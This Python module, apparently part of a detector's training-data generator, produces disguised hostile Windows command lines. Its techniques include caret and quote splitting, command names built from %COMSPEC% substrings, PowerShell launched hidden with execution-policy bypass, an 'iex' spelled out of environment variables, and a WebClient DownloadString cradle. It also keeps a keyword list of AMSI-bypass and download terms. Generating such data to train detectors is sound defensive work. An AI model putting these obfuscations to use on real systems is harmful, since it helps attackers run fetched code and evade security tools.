"""Grammars that hide what a hostile command line says."""

# ruff: noqa: PLR2004 - chance needs no secret; how often a letter is touched

from __future__ import annotations

import re
from random import Random

from vedette.learning.datasets.command_attack_windows import SCRIPTS, blinder, destroyer, dumper, fetcher, proxy, scout
from vedette.learning.datasets.command_pieces import fill

_BARE = (fetcher, dumper, blinder, destroyer, scout, proxy)


def carets(rng: Random) -> str:
    """Lines with carets, quotes and changing case within words, as the command prompt passes over them."""
    line = rng.choice(_BARE)(rng)
    manner = rng.randrange(4)
    if manner == 0:
        line = re.sub(r"[A-Za-z]{4,}", lambda m: "^".join(m[0]) if rng.random() < 0.7 else m[0], line)
    elif manner == 1:
        line = re.sub(r"[a-z]{4,}", lambda m: _split(m[0], '""', rng) if rng.random() < 0.7 else m[0], line)
    elif manner == 2:
        line = re.sub(r"[a-z]{3,}", lambda m: _split(m[0], "^", rng), line)
    line = "".join(c.upper() if rng.random() < 0.4 else c for c in line) if manner == 3 or rng.random() < 0.4 else line
    return f"cmd /c {line}" if rng.random() < 0.6 else line


def cut_out(rng: Random) -> str:
    """Command names put together of variables."""
    line = rng.choice(_BARE)(rng)
    name, _, rest = line.partition(" ")
    name = name.rpartition("\\")[2]
    if rng.random() < 0.4:
        return (
            f"%COMSPEC:~0,1%%COMSPEC:~-7,2%d /c {name} {rest}"
            if rng.random() < 0.5
            else f"%ProgramFiles:~0,1%md.exe /c {name} {rest}"
        )
    cut = rng.randint(1, max(1, len(name) - 1))
    a, b = rng.sample("abcdefghxyz", 2)
    return f"cmd /V:ON /c set {a}={name[:cut]}&& set {b}={name[cut:]}&& call %{a}%%{b}% {rest}"


def pieces(rng: Random) -> str:
    """PowerShell whose words are put together of pieces, by format, codes, back ticks or plus."""
    script = fill(rng, rng.choice(SCRIPTS[:18]))
    for _ in range(rng.randint(1, 3)):
        script = rng.choice((_ticks, _joined, _formatted, _coded, _mixed))(script, rng)
    return fill(rng, "{ps} <<-nop|-w hidden|-ep bypass|>> <<-c|-Command|>> ") + f'"{script}"'


def spelled(rng: Random) -> str:
    """PowerShell that spells ``iex`` out of a variable."""
    named = rng.choice(
        [
            "$env:ComSpec[4,24,25]-join''",
            "$PSHome[4]+$PSHome[34]+'x'",
            "$ShellId[1]+$ShellId[13]+'x'",
            "([string]''.IndexOf)[0,7,8]-join''",
        ]
    )
    fetched = fill(rng, "((New-Object Net.WebClient).DownloadString('{url}'))")
    return fill(rng, "{ps} <<-nop|-noni|>> -c ") + f'"&({named}) {fetched}"'


def _split(word: str, sign: str, rng: Random) -> str:
    cut = rng.randint(1, len(word) - 1)
    return word[:cut] + sign + word[cut:]


def _words(script: str) -> list[str]:
    return [w for w in re.findall(r"[A-Za-z]{3,}-?[A-Za-z]{3,}", script) if w.lower() in _NAMED]


_NAMED = {
    *(
        "invoke-expression",
        "downloadstring",
        "downloadfile",
        "new-object",
        "invoke-webrequest",
        "start-process",
        "frombase64string",
        "webclient",
    ),
    *(
        "set-mppreference",
        "amsiutils",
        "amsiinitfailed",
        "virtualalloc",
        "memorystream",
        "gzipstream",
        "assembly",
        "reflection",
        "add-type",
    ),
}


def _ticks(script: str, rng: Random) -> str:
    return re.sub(r"[A-Za-z-]{5,}", lambda m: _split(m[0], "`", rng) if m[0].lower() in _NAMED else m[0], script)


def _joined(script: str, rng: Random) -> str:
    return re.sub(r"'([^'\s]{4,60})'", lambda m: "('" + _split(m[1], "'+'", rng) + "')", script)


def _formatted(script: str, rng: Random) -> str:
    def put(match: re.Match[str]) -> str:
        cut = rng.randint(1, len(match[1]) - 1)
        return f"(\"{{1}}{{0}}\" -f '{match[1][cut:]}','{match[1][:cut]}')"

    return re.sub(r"'([^'\s{}]{4,60})'", put, script, count=2)


def _coded(script: str, rng: Random) -> str:
    def put(match: re.Match[str]) -> str:
        codes = [f"[char]{ord(c)}" if rng.random() < 0.8 else f"[char]0x{ord(c):x}" for c in match[1]]
        return "(" + "+".join(codes) + ")"

    return re.sub(r"'([^'\s]{4,40})'", put, script, count=1)


def _mixed(script: str, rng: Random) -> str:
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in script)
